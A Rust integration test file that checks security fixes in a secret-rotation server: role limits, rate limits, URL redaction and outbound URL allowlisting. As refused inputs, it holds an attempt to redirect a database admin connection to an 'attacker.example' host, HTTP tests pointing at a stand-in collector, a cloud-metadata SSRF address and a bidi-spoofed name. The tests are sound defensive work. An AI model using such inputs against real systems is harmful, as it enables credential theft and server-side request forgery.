//! No role exceeds itself, and no request costs more than it should: each
//! test here failed before its fix (docs/SECURITY.md lists them).

use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::support::{Options, TestServer, assert_error};

/// The current value and version of a secret, read as admin.
async fn current(s: &TestServer, path: &str) -> (String, u64) {
    let (status, body) = s.get(&format!("/v1/secrets/{path}"), &s.admin).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    (
        body["value"].as_str().unwrap().to_owned(),
        body["version"].as_u64().unwrap(),
    )
}

/// A CA secret (`pki/ca`) and a leaf it issues (`web/cert`), both set up
/// by an admin.
async fn ca_and_leaf(s: &TestServer) {
    let ca = s
        .put(
            "/v1/secrets/pki/ca",
            &s.admin,
            json!({"type": "certificate", "ca": true, "common_name": "Test Root CA"}),
        )
        .await;
    assert_eq!(ca.0, StatusCode::CREATED, "{}", ca.1);
    let leaf = s
        .put(
            "/v1/secrets/web/cert",
            &s.admin,
            json!({"type": "certificate", "ca_secret": "pki/ca", "common_name": "web.internal"}),
        )
        .await;
    assert_eq!(leaf.0, StatusCode::CREATED, "{}", leaf.1);
}

/// An operator cannot have the admin's CA issue a sub-CA or a certificate
/// for another name, and cannot replace, rotate or overwrite the CA.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn operators_cannot_shape_or_replace_what_a_ca_signs() {
    let s = TestServer::sqlite().await;
    ca_and_leaf(&s).await;
    let leaf_before = current(&s, "web/cert").await;
    for (body, setting) in [
        (json!({"ca": true, "common_name": "login.bank.example"}), "ca"),
        (json!({"ca": true}), "ca"),
        (json!({"common_name": "login.bank.example"}), "common_name"),
        (json!({"validity_days": 3650}), "validity_days"),
    ] {
        let refused = s.put("/v1/secrets/web/cert", &s.operator, body).await;
        assert_error(&refused, StatusCode::FORBIDDEN, "forbidden");
        let message = refused.1["message"].as_str().unwrap();
        assert!(message.contains(setting) && message.contains("admin role"), "{message}");
    }
    assert_eq!(
        current(&s, "web/cert").await,
        leaf_before,
        "the refused puts changed nothing"
    );
    // Unchanged settings resent, and rotating the leaf: an operator's job.
    let same = s
        .put(
            "/v1/secrets/web/cert",
            &s.operator,
            json!({"common_name": "web.internal", "ca_secret": "pki/ca"}),
        )
        .await;
    assert_eq!(same.0, StatusCode::OK, "{}", same.1);
    let rotated = s.post("/v1/secrets/web/cert:rotate", &s.operator, json!({})).await;
    assert_eq!(rotated.0, StatusCode::OK, "{}", rotated.1);

    // The CA itself is protected: writing or rotating it needs admin.
    let ca_before = current(&s, "pki/ca").await;
    let own_ca = s
        .put("/v1/secrets/pki/ca", &s.operator, json!({"value": "operator's own CA"}))
        .await;
    assert_error(&own_ca, StatusCode::FORBIDDEN, "forbidden");
    let message = own_ca.1["message"].as_str().unwrap();
    assert!(
        message.contains("web/cert") && message.contains("ca_secret"),
        "names the secret that depends on it: {message}"
    );
    assert!(!message.contains("operator's own CA"), "{message}");
    assert_error(
        &s.post("/v1/secrets/pki/ca:rotate", &s.operator, json!({})).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    );
    assert_eq!(current(&s, "pki/ca").await, ca_before, "the CA is unchanged");
    // An admin may.
    let by_admin = s.post("/v1/secrets/pki/ca:rotate", &s.admin, json!({})).await;
    assert_eq!(by_admin.0, StatusCode::OK, "{}", by_admin.1);
    s.stop().await;
}

/// A secret named as another's `admin_secret` carries the connection new
/// passwords are sent over: only admins write or rotate it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_admin_secret_is_protected() {
    let s = TestServer::sqlite().await;
    let admin_conn = s
        .put(
            "/v1/secrets/db/admin",
            &s.admin,
            json!({"value": "postgres://admin:pw@db.internal:5432/app"}),
        )
        .await;
    assert_eq!(admin_conn.0, StatusCode::CREATED, "{}", admin_conn.1);
    // Before anything refers to it, an operator may write it.
    let early = s
        .put(
            "/v1/secrets/db/admin",
            &s.operator,
            json!({"value": "postgres://admin:pw2@db.internal:5432/app"}),
        )
        .await;
    assert_eq!(early.0, StatusCode::OK, "{}", early.1);
    let db = s
        .put(
            "/v1/secrets/db/app",
            &s.admin,
            json!({"type": "database", "value": "pw1", "role": "app", "admin_secret": "db/admin"}),
        )
        .await;
    assert_eq!(db.0, StatusCode::CREATED, "{}", db.1);
    let before = current(&s, "db/admin").await;
    let refused = s
        .put(
            "/v1/secrets/db/admin",
            &s.operator,
            json!({"value": "postgres://collector:pw@attacker.example:5432/x"}),
        )
        .await;
    assert_error(&refused, StatusCode::FORBIDDEN, "forbidden");
    assert!(
        !refused.1["message"].as_str().unwrap().contains("attacker.example"),
        "{}",
        refused.1
    );
    assert_error(
        &s.post(
            "/v1/secrets/db/admin:rotate",
            &s.operator,
            json!({"value": "postgres://x@evil/y"}),
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    );
    assert_eq!(current(&s, "db/admin").await, before);
    s.stop().await;
}

/// A policy's `http:` tests receive every new value: an operator may not
/// rotate, attach or schedule with a policy whose tests the secret does
/// not already carry.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn operators_cannot_send_values_to_a_policys_http_tests() {
    let s = TestServer::sqlite().await;
    let policy = s
        .put(
            "/v1/policies/svc-check",
            &s.admin,
            json!({"interval_days": 30, "verify": ["http:http://127.0.0.1:9/collect"]}),
        )
        .await;
    assert_eq!(policy.0, StatusCode::OK, "{}", policy.1);
    let plain = s
        .put("/v1/policies/plain", &s.admin, json!({"interval_days": 30}))
        .await;
    assert_eq!(plain.0, StatusCode::OK, "{}", plain.1);
    let put = s
        .put("/v1/secrets/payments/key", &s.operator, json!({"value": "v1-4f2a"}))
        .await;
    assert_eq!(put.0, StatusCode::CREATED, "{}", put.1);
    let before = current(&s, "payments/key").await;

    let refused = s
        .post(
            "/v1/secrets/payments/key:rotate",
            &s.operator,
            json!({"policy": "svc-check"}),
        )
        .await;
    assert_error(&refused, StatusCode::FORBIDDEN, "forbidden");
    let message = refused.1["message"].as_str().unwrap();
    assert!(message.contains("svc-check") && message.contains("http:"), "{message}");
    assert!(!message.contains("127.0.0.1"), "the URL is not shown: {message}");
    assert_eq!(current(&s, "payments/key").await, before, "nothing rotated");
    assert_error(
        &s.put("/v1/secrets/payments/key", &s.operator, json!({"policy": "svc-check"}))
            .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    );
    assert_error(
        &s.post(
            "/v1/schedules",
            &s.operator,
            json!({"target": "secret:payments/key", "policy": "svc-check"}),
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    );
    let (_, schedules) = s.get("/v1/schedules?all=true", &s.admin).await;
    assert_eq!(schedules.as_array().unwrap().len(), 0, "{schedules}");

    // A policy without http: tests stays an operator's choice.
    let rotated = s
        .post(
            "/v1/secrets/payments/key:rotate",
            &s.operator,
            json!({"policy": "plain"}),
        )
        .await;
    assert_eq!(rotated.0, StatusCode::OK, "{}", rotated.1);
    let scheduled = s
        .post(
            "/v1/schedules",
            &s.operator,
            json!({"target": "secret:payments/key", "policy": "plain"}),
        )
        .await;
    assert_eq!(scheduled.0, StatusCode::CREATED, "{}", scheduled.1);
    // Once an admin attached the policy, its tests are the secret's own.
    let attached = s
        .put("/v1/secrets/payments/key", &s.admin, json!({"policy": "svc-check"}))
        .await;
    assert_eq!(attached.0, StatusCode::OK, "{}", attached.1);
    let (_, history) = s.get("/v1/secrets/payments/key:history", &s.viewer).await;
    assert_eq!(history.as_array().unwrap().len(), 1, "{history}");
    s.stop().await;
}

/// Webhook URLs (often with a token in the path) and http: test URLs show
/// only their scheme and host to non-admins.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_admins_see_only_the_scheme_and_host_of_policy_urls() {
    let s = TestServer::sqlite().await;
    let hook = "https://hooks.chat.example/services/T000/B000/XXXXSECRETXXXX";
    let set = s
        .put(
            "/v1/policies/notified",
            &s.admin,
            json!({
                "interval_days": 30,
                "notify": [hook, "mailto:ops@example.com", "log"],
                "verify": ["https://check.chat.example/v?token=XXXXSECRETXXXX", "http:http://check.chat.example/XXXXSECRETXXXX"],
            }),
        )
        .await;
    assert_eq!(set.0, StatusCode::OK, "{}", set.1);
    for token in [&s.viewer, &s.operator] {
        for path in ["/v1/policies", "/v1/policies/notified"] {
            let (status, body) = s.get(path, token).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            let text = body.to_string();
            assert!(!text.contains("XXXXSECRETXXXX"), "{text}");
            assert!(text.contains("https://hooks.chat.example"), "{text}");
            assert!(text.contains("mailto:ops@example.com"), "{text}");
        }
    }
    let (_, full) = s.get("/v1/policies/notified", &s.admin).await;
    assert_eq!(full["procedure"]["notify"][0], hook, "{full}");
    s.stop().await;
}

/// `:validate` is an operator's, limited per token and secret, and audited
/// as one aggregated `secret_validated` event.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn validation_needs_an_operator_is_rate_limited_and_audited() {
    let s = TestServer::sqlite_with(Options {
        validate_per_minute: 3,
        validation_audit_interval: Duration::from_millis(200),
        ..Options::default()
    })
    .await;
    let put = s
        .put("/v1/secrets/api/key", &s.operator, json!({"value": "right-9d2e"}))
        .await;
    assert_eq!(put.0, StatusCode::CREATED, "{}", put.1);
    assert_error(
        &s.post("/v1/secrets/api/key:validate", &s.viewer, json!({"value": "guess"}))
            .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    );
    for guess in ["guess-1", "guess-2", "right-9d2e"] {
        let (status, body) = s
            .post("/v1/secrets/api/key:validate", &s.operator, json!({"value": guess}))
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    let response = s
        .client
        .post(format!("{}/v1/secrets/api/key:validate", s.base))
        .bearer_auth(&s.operator)
        .json(&json!({"value": "guess-4"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
    let retry_after: u64 = response.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&retry_after), "{retry_after}");
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["reason"], "rate_limited", "{body}");
    // Another secret has its own allowance.
    s.put("/v1/secrets/api/other", &s.operator, json!({"value": "x"})).await;
    let (status, _) = s
        .post("/v1/secrets/api/other:validate", &s.operator, json!({"value": "x"}))
        .await;
    assert_eq!(status, StatusCode::OK);

    // One event for the three counted attempts on api/key, none per guess.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let events = loop {
        let (_, events) = s
            .get("/v1/audit?event=secret_validated&target=secret:api/key", &s.viewer)
            .await;
        if !events.as_array().unwrap().is_empty() {
            break events;
        }
        assert!(std::time::Instant::now() < deadline, "no secret_validated event");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let events = events.as_array().unwrap();
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(events[0]["details"]["attempts"], 3, "{events:?}");
    assert_eq!(events[0]["details"]["valid"], 1, "{events:?}");
    assert!(events[0]["actor"].as_str().unwrap().starts_with("token:"));
    assert!(!Value::Array(events.clone()).to_string().contains("guess"));
    s.stop().await;
}

/// Every token has a request rate; beyond it, 429 with `Retry-After`, and
/// other tokens are unaffected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_over_its_rate_gets_429() {
    let s = TestServer::sqlite_with(Options {
        rate_limit_per_second: 1,
        ..Options::default()
    })
    .await;
    let mut statuses = Vec::new();
    for _ in 0..4 {
        statuses.push(s.get("/v1/authorities", &s.viewer).await.0);
    }
    assert_eq!(
        &statuses[..2],
        &[StatusCode::OK, StatusCode::OK],
        "a burst of twice the rate passes"
    );
    assert!(statuses.contains(&StatusCode::TOO_MANY_REQUESTS), "{statuses:?}");
    let response = s
        .client
        .get(format!("{}/v1/authorities", s.base))
        .bearer_auth(&s.viewer)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(response.headers().contains_key("retry-after"));
    assert_eq!(s.get("/v1/authorities", &s.operator).await.0, StatusCode::OK);
    s.stop().await;
}

/// `GET /v1/chains` pages: at most 1,000 records, a cursor for the next.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chains_are_listed_in_bounded_pages() {
    let s = TestServer::sqlite().await;
    let created = s.post("/v1/authorities", &s.operator, json!({"id": "org-acme"})).await;
    assert_eq!(created.0, StatusCode::CREATED, "{}", created.1);
    for agent in ["agent-1", "agent-2"] {
        let issued = s
            .post(
                "/v1/chains",
                &s.operator,
                json!({"agent_id": agent, "authority_id": "org-acme", "capabilities": ["read"]}),
            )
            .await;
        assert_eq!(issued.0, StatusCode::CREATED, "{}", issued.1);
    }
    let (_, all) = s.get("/v1/chains", &s.viewer).await;
    let all = all.as_array().unwrap().clone();
    assert!(all.len() >= 4, "{all:?}");
    let mut paged = Vec::new();
    let mut after: Option<String> = None;
    loop {
        let url = match &after {
            None => format!("{}/v1/chains?limit=3", s.base),
            Some(a) => format!("{}/v1/chains?limit=3&after={a}", s.base),
        };
        let response = s.client.get(url).bearer_auth(&s.viewer).send().await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let next = response
            .headers()
            .get("x-next-after")
            .map(|v| v.to_str().unwrap().to_owned());
        let page: Value = response.json().await.unwrap();
        assert!(page.as_array().unwrap().len() <= 3);
        paged.extend(page.as_array().unwrap().iter().cloned());
        match next {
            Some(n) => after = Some(n),
            None => break,
        }
    }
    assert_eq!(paged, all, "the pages together are the whole list, in order");
    for bad in ["limit=0", "limit=1001", "after=nonsense"] {
        assert_error(
            &s.get(&format!("/v1/chains?{bad}"), &s.viewer).await,
            StatusCode::UNPROCESSABLE_ENTITY,
            "invalid_input",
        );
    }
    s.stop().await;
}

/// Unknown fields in a request body are refused, naming the field, and
/// change nothing (a typo no longer falls back to a default).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_body_fields_are_refused() {
    let s = TestServer::sqlite().await;
    let refused = s
        .post("/v1/keyrings", &s.operator, json!({"name": "k2", "bogus": 1}))
        .await;
    assert_error(&refused, StatusCode::UNPROCESSABLE_ENTITY, "invalid_input");
    assert!(
        refused.1["message"].as_str().unwrap().contains("bogus"),
        "{}",
        refused.1
    );
    assert_eq!(s.get("/v1/keyrings/k2", &s.viewer).await.0, StatusCode::NOT_FOUND);

    let created = s.post("/v1/authorities", &s.operator, json!({"id": "org-acme"})).await;
    assert_eq!(created.0, StatusCode::CREATED, "{}", created.1);
    let typo = s
        .post(
            "/v1/authorities/org-acme/rotate",
            &s.operator,
            json!({"grace_period_hour": 0}),
        )
        .await;
    assert_error(&typo, StatusCode::UNPROCESSABLE_ENTITY, "invalid_input");
    assert!(
        typo.1["message"].as_str().unwrap().contains("grace_period_hour"),
        "{}",
        typo.1
    );
    let (_, shown) = s.get("/v1/authorities/org-acme", &s.viewer).await;
    assert_eq!(shown["keys"].as_array().unwrap().len(), 1, "nothing rotated: {shown}");

    let policy_typo = s
        .put(
            "/v1/policies/p",
            &s.admin,
            json!({"trigger": {"max_age_days": 30}, "procedure": {"grace_period_hour": 0}}),
        )
        .await;
    assert_error(&policy_typo, StatusCode::UNPROCESSABLE_ENTITY, "invalid_input");
    assert_eq!(s.get("/v1/policies/p", &s.admin).await.0, StatusCode::NOT_FOUND);
    let spec_typo = s
        .put(
            "/v1/policies/p",
            &s.admin,
            json!({"interval_days": 1, "grace_period_hour": 0}),
        )
        .await;
    assert_error(&spec_typo, StatusCode::UNPROCESSABLE_ENTITY, "invalid_policy");
    s.stop().await;
}

/// With `max_connections`, a connection beyond the limit is not served
/// until one closes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_beyond_the_limit_wait() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let s = TestServer::sqlite_with(Options {
        max_connections: 1,
        ..Options::default()
    })
    .await;
    let addr = s.base.trim_start_matches("http://").to_owned();
    let request = b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    // The first connection is served and kept open (keep-alive).
    let mut first = tokio::net::TcpStream::connect(&addr).await.unwrap();
    first
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut buf = [0u8; 512];
    let n = first.read(&mut buf).await.unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
    // The second waits while the first is open...
    let mut second = tokio::net::TcpStream::connect(&addr).await.unwrap();
    second.write_all(request).await.unwrap();
    let waited = tokio::time::timeout(Duration::from_millis(700), second.read(&mut buf)).await;
    assert!(waited.is_err(), "served beyond the connection limit");
    // ...and is served once it closes.
    drop(first);
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), second.read_to_end(&mut answer))
        .await
        .expect("served after the first connection closed")
        .unwrap();
    assert!(String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 200"));
    assert_eq!(s.call(Method::GET, "/healthz", None, None).await.0, StatusCode::OK);
    s.stop().await;
}

// ------------------------------------------------ the binary's start-up rules

const BIN: &str = env!("CARGO_BIN_EXE_rotation-server");

/// Starts the binary on `listen` with `args`; returns its exit status and
/// stderr if it stops within `wait`, or kills it and returns `None` with
/// what it printed so far.
fn run_briefly(
    url: &str,
    listen: &str,
    args: &[&str],
    env: &[(&str, &str)],
    wait: Duration,
) -> (Option<std::process::ExitStatus>, String) {
    use std::io::Read as _;
    let mut child = std::process::Command::new(BIN)
        .args(["--store", url, "--listen", listen, "--scheduler-interval-seconds", "0"])
        .args(args)
        .envs(env.iter().copied())
        .env_remove("ROTATION_MASTER_PASSWORD")
        .env("ROTATION_LOG", "info")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + wait;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break Some(status);
        }
        if std::time::Instant::now() >= deadline {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let mut stderr = String::new();
    child.stderr.take().unwrap().read_to_string(&mut stderr).unwrap();
    (status, stderr)
}

/// Plain HTTP off loopback needs `--allow-plain-http` (and warns).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_off_loopback_needs_an_explicit_flag() {
    let dir = tempfile::tempdir().unwrap();
    let url = crate::binary::store_with_key_file(dir.path()).await;
    let (status, stderr) = run_briefly(&url, "0.0.0.0:0", &[], &[], Duration::from_secs(20));
    let status = status.expect("the server refused to start");
    assert!(!status.success());
    assert!(
        stderr.contains("error[invalid_input]")
            && stderr.contains("--tls-cert")
            && stderr.contains("--allow-plain-http"),
        "{stderr}"
    );
    let (status, stderr) = run_briefly(&url, "0.0.0.0:0", &["--allow-plain-http"], &[], Duration::from_secs(3));
    assert!(status.is_none(), "it kept serving: {stderr}");
    assert!(stderr.contains("plain HTTP"), "a warning at start: {stderr}");
    // Loopback needs no flag.
    let (status, stderr) = run_briefly(&url, "127.0.0.1:0", &[], &[], Duration::from_secs(3));
    assert!(status.is_none(), "it kept serving: {stderr}");
}

/// `ROTATION_NOW` freezes token expiry: the server honours it only with
/// `--unsafe-clock`, and warns either way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rotation_now_needs_the_unsafe_clock_flag() {
    let dir = tempfile::tempdir().unwrap();
    let url = crate::binary::store_with_key_file(dir.path()).await;
    let past = [("ROTATION_NOW", "2020-01-01T00:00:00Z")];
    // Token expiry follows the server's clock: create one and read its times.
    let created = |flags: &[&str]| {
        let out = std::process::Command::new(BIN)
            .args(["--store", &url])
            .args(flags)
            .args(["token", "create", "--role", "viewer", "--expires-in-days", "1"])
            .envs(past)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let ignored = created(&[]);
    assert!(ignored.contains("ROTATION_NOW is set but ignored"), "{ignored}");
    let honoured = created(&["--unsafe-clock"]);
    assert!(honoured.contains("--unsafe-clock"), "{honoured}");
    let listed = std::process::Command::new(BIN)
        .args(["--store", &url, "token", "list"])
        .output()
        .unwrap();
    let tokens: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let mut years: Vec<String> = tokens
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["created_at"].as_str().unwrap()[..4].to_owned())
        .collect();
    years.sort();
    assert_eq!(years.len(), 2, "{tokens}");
    assert_eq!(years[0], "2020", "--unsafe-clock honoured ROTATION_NOW: {tokens}");
    assert_ne!(years[1], "2020", "without it, the system clock: {tokens}");

    let (status, stderr) = run_briefly(&url, "127.0.0.1:0", &[], &past, Duration::from_secs(3));
    assert!(status.is_none(), "it kept serving: {stderr}");
    assert!(stderr.contains("ROTATION_NOW is set but ignored"), "{stderr}");
}

/// The `rotation.*` keyrings hold secret versions: no keyring route
/// touches them, so secret versions change only through secret routes
/// (and are audited as such).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reserved_keyrings_are_refused_by_every_keyring_route() {
    let s = TestServer::sqlite().await;
    let put = s
        .put("/v1/secrets/payments/key", &s.operator, json!({"value": "v1-original"}))
        .await;
    assert_eq!(put.0, StatusCode::CREATED, "{}", put.1);
    let before = current(&s, "payments/key").await;
    let (_, audit_before) = s.get("/v1/audit?limit=1000", &s.admin).await;
    let keyring = "/v1/keyrings/rotation.secrets";
    for (method, path, token, body) in [
        (
            Method::POST,
            format!("{keyring}/values"),
            &s.operator,
            Some(json!({"id": "payments/key@1", "value": "overwritten"})),
        ),
        (
            Method::POST,
            format!("{keyring}/values/payments%2Fkey@1/decrypt"),
            &s.admin,
            None,
        ),
        (Method::POST, format!("{keyring}/rotate"), &s.operator, Some(json!({}))),
        (Method::POST, format!("{keyring}/migrate"), &s.operator, Some(json!({}))),
        (Method::GET, keyring.to_owned(), &s.viewer, None),
        (Method::GET, format!("{keyring}/report"), &s.viewer, None),
        (
            Method::POST,
            "/v1/keyrings".to_owned(),
            &s.operator,
            Some(json!({"name": "rotation.mine"})),
        ),
    ] {
        let refused = s.call(method.clone(), &path, Some(token), body).await;
        assert_error(&refused, StatusCode::UNPROCESSABLE_ENTITY, "invalid_input");
        assert!(
            refused.1["message"].as_str().unwrap().contains("reserved"),
            "{method} {path}: {}",
            refused.1
        );
    }
    assert_eq!(current(&s, "payments/key").await, before, "the secret is unchanged");
    let (_, audit_after) = s.get("/v1/audit?limit=1000", &s.admin).await;
    // The refused requests wrote nothing to the audit log.
    let added = audit_after.as_array().unwrap().len() - audit_before.as_array().unwrap().len();
    assert_eq!(added, 1, "only the second read was audited in between: {audit_after}");
    s.stop().await;
}

/// A script's stdout is not kept unless `script_log` (an admin's setting)
/// asks for it, and then only admins see it, in history and audit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn script_stdout_is_kept_only_on_request_and_shown_to_admins_only() {
    use std::os::unix::fs::PermissionsExt as _;
    let s = TestServer::sqlite().await;
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("step.sh");
    std::fs::write(
        &script,
        "#!/bin/sh\necho \"stdout of step $1\"\necho \"stderr of step $1\" >&2\nexit 0\n",
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o700)).unwrap();
    let script = script.to_str().unwrap();
    let put = s
        .put(
            "/v1/secrets/app/scripted",
            &s.admin,
            json!({"value": "v1-aaaa", "script": script}),
        )
        .await;
    assert_eq!(put.0, StatusCode::CREATED, "{}", put.1);
    // An operator may not turn it on.
    let refused = s
        .put("/v1/secrets/app/scripted", &s.operator, json!({"script_log": true}))
        .await;
    assert_error(&refused, StatusCode::FORBIDDEN, "forbidden");
    assert!(
        refused.1["message"].as_str().unwrap().contains("script_log"),
        "{}",
        refused.1
    );

    let rotated = s.post("/v1/secrets/app/scripted:rotate", &s.operator, json!({})).await;
    assert_eq!(rotated.0, StatusCode::OK, "{}", rotated.1);
    let (_, history) = s.get("/v1/secrets/app/scripted:history", &s.admin).await;
    let text = history.to_string();
    assert!(text.contains("stderr of step"), "the stderr tail is kept: {text}");
    assert!(!text.contains("stdout of step"), "no stdout by default: {text}");

    let on = s
        .put("/v1/secrets/app/scripted", &s.admin, json!({"script_log": true}))
        .await;
    assert_eq!(on.0, StatusCode::OK, "{}", on.1);
    let rotated = s.post("/v1/secrets/app/scripted:rotate", &s.operator, json!({})).await;
    assert_eq!(rotated.0, StatusCode::OK, "{}", rotated.1);
    let (_, admin_history) = s.get("/v1/secrets/app/scripted:history", &s.admin).await;
    assert!(admin_history.to_string().contains("stdout of step"), "{admin_history}");
    let (_, admin_audit) = s
        .get("/v1/audit?event=secret_step&target=secret:app/scripted", &s.admin)
        .await;
    assert!(admin_audit.to_string().contains("stdout of step"), "{admin_audit}");
    for token in [&s.viewer, &s.operator] {
        let (_, history) = s.get("/v1/secrets/app/scripted:history", token).await;
        assert!(!history.to_string().contains("stdout of step"), "{history}");
        assert!(history.to_string().contains("stderr of step"), "{history}");
        let (_, audit) = s
            .get("/v1/audit?event=secret_step&target=secret:app/scripted", token)
            .await;
        assert!(!audit.as_array().unwrap().is_empty());
        assert!(!audit.to_string().contains("stdout of step"), "{audit}");
    }
    s.stop().await;
}

/// Token descriptions are shown in lists and audit events: no bidi or
/// zero-width characters.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn token_descriptions_refuse_invisible_characters() {
    let s = TestServer::sqlite().await;
    for description in ["ci\u{202e}gnp.exe", "ci\u{200b}bot"] {
        let refused = s
            .post(
                "/v1/tokens",
                &s.admin,
                json!({"role": "viewer", "description": description}),
            )
            .await;
        assert_error(&refused, StatusCode::UNPROCESSABLE_ENTITY, "invalid_input");
        assert!(refused.1["message"].as_str().unwrap().contains("U+20"), "{}", refused.1);
    }
    let (_, tokens) = s.get("/v1/tokens", &s.admin).await;
    assert_eq!(tokens.as_array().unwrap().len(), 3, "nothing created: {tokens}");
    s.stop().await;
}

/// Webhooks and `http:` tests never reach loopback, private or link-local
/// addresses unless `ROTATION_URL_ALLOWLIST` lists them: refused when set.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outbound_urls_to_internal_addresses_are_refused_when_set() {
    let s = TestServer::sqlite_with(Options {
        url_allowlist: "",
        ..Options::default()
    })
    .await;
    for body in [
        json!({"interval_days": 1, "verify": ["http:http://169.254.169.254/latest/meta-data"]}),
        json!({"interval_days": 1, "notify": ["https://10.0.0.1/hook"]}),
        json!({"interval_days": 1, "verify": ["http:http://127.0.0.1:9/x"]}),
    ] {
        let refused = s.put("/v1/policies/p", &s.admin, body.clone()).await;
        assert_error(&refused, StatusCode::UNPROCESSABLE_ENTITY, "invalid_policy");
        assert!(
            refused.1["message"]
                .as_str()
                .unwrap()
                .contains("ROTATION_URL_ALLOWLIST"),
            "{body}: {}",
            refused.1
        );
    }
    assert_eq!(s.get("/v1/policies/p", &s.admin).await.0, StatusCode::NOT_FOUND);
    let refused = s
        .put(
            "/v1/secrets/app/key",
            &s.admin,
            json!({"value": "v1", "verify": ["http:http://[::1]:8080/check"]}),
        )
        .await;
    assert_error(&refused, StatusCode::UNPROCESSABLE_ENTITY, "invalid_policy");
    assert_eq!(
        s.get("/v1/secrets/app/key:status", &s.admin).await.0,
        StatusCode::NOT_FOUND
    );
    s.stop().await;
}

/// An HTTP test named by its URL alone (`https://…`) sends values as
/// `http:URL` does: setting it needs admin too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_spelling_of_an_http_test_needs_admin() {
    let s = TestServer::sqlite().await;
    let put = s
        .put("/v1/secrets/app/key", &s.operator, json!({"value": "v1-aaaa"}))
        .await;
    assert_eq!(put.0, StatusCode::CREATED, "{}", put.1);
    for test in [
        "https://collector.example/x",
        "HTTPS://collector.example/x",
        "http://collector.example/x",
        "HTTP:https://collector.example/x",
    ] {
        let refused = s
            .put("/v1/secrets/app/key", &s.operator, json!({"verify": [test]}))
            .await;
        assert_error(&refused, StatusCode::FORBIDDEN, "forbidden");
    }
    let (_, status) = s.get("/v1/secrets/app/key:status", &s.admin).await;
    assert_eq!(status["versions"].as_array().unwrap().len(), 1, "{status}");
    s.stop().await;
}
